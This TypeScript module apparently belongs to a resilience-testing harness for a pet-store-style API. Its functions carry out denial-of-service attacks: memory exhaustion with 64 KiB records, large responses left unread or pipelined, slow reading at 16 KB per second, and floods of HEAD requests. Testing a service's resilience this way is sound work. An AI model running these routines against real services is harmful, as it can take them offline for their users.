import { once } from 'node:events';
import type { Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { keepInFlight, type Sockets, sendOnEach, withSockets, write } from './open-sockets.ts';
import { bearer, hugeAnimal, packedPost, request } from './requests.ts';

/** Adds animals whose names have 64 KiB, one after another on one connection, until one is refused. */
const addHugeAnimals = async ({ open, isOver }: Sockets, apiKey: string, count: number): Promise<void> => {
  const socket = await open();
  const post = packedPost(apiKey, hugeAnimal('sold'));
  const closed = once(socket, 'close');
  let isRefused = false;
  for (let added = 0; added < count && !isRefused && !isOver() && !socket.destroyed; added++) {
    socket.write(post);
    // The response has 64 KiB as well. Its last byte is its only closing brace.
    for (let hasResponse = false; !hasResponse && !isOver() && !socket.destroyed; ) {
      const [chunk] = await Promise.race([once(socket, 'data'), closed]);
      hasResponse = Buffer.isBuffer(chunk) && chunk.includes('}');
      isRefused ||= Buffer.isBuffer(chunk) && /^HTTP\/1\.1 (?!201)/.test(chunk.toString('latin1'));
    }
  }
};

/** Adds twice as many animals as a heap of 259 MiB can hold, on 8 connections, until the service refuses them. */
export const fillMemory: Attack = (target) =>
  withSockets(target, (sockets) =>
    Promise.all(Array.from({ length: 8 }, () => addHugeAnimals(sockets, target.apiKey, 1_000))),
  );

/** Requests pages of 6.4 MB, after it has added the animals. */
const requesting =
  (method: string, send: (page: string, sockets: Sockets) => Promise<unknown>): Attack =>
  (target) =>
    withSockets(target, async (sockets) => {
      await addHugeAnimals(sockets, target.apiKey, 100);
      await send(request(`${method} /v1/pets?limit=100&status=sold`, [bearer(target.apiKey)]), sockets);
      await sockets.untilOver();
    });

/** Lists 60 pages of 6.4 MB, each on its own connection, and reads none of them. */
export const listUnread: Attack = requesting('GET', (page, { openDeaf }) => sendOnEach(openDeaf, 60, page));

/** Lists 60 pages of 6.4 MB, pipelined on three connections, and reads none of them. */
export const listUnreadPipelined: Attack = requesting('GET', (page, { openDeaf }) =>
  sendOnEach(openDeaf, 3, page.repeat(20)),
);

/** Lists a page of 6.4 MB on each of 20 connections, and reads 16 KB a second of it. */
export const readSlowly: Attack = requesting('GET', async (page, { openDeaf, isOver, wait }) => {
  const slow: Socket[] = [];
  for (let opened = 0; opened < 20; opened++) {
    const socket = await openDeaf();
    await write(socket, page);
    slow.push(socket);
  }
  while (!isOver()) {
    for (const socket of slow) socket.read(Math.min(16 * 1024, socket.readableLength));
    await wait(1_000);
  }
});

/** Sends HEAD requests for a page of 6.4 MB on each of 20 connections, repeatedly. Each request has only 200 bytes. */
export const headPages: Attack = requesting('HEAD', (head, { open }) =>
  Promise.all(Array.from({ length: 20 }, async () => keepInFlight(await open(), 1, () => head))),
);
